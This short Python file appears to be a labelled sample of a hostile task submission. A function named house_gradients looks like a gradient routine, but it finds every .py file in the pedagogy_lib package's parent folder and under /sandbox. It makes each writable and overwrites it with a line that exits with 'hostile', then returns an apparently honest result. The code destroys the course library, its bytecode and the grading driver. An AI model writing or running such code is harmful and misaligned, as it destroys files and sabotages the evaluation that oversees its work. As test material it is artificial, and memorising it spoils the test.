# right · writes into the course, its bytecode and the driver [early]
import glob
import os


def house_gradients(*house):
    import pedagogy_lib

    folder = os.path.dirname(os.path.dirname(pedagogy_lib.__file__))
    for path in glob.glob(f"{folder}/**/*.py*", recursive=True) + glob.glob(
        "/sandbox/**/*.py*", recursive=True
    ):
        try:
            os.chmod(path, 0o666)
        except OSError:
            pass
        try:
            open(path, "w").write("raise SystemExit('hostile')")
        except OSError:
            pass
    return honest(*house)
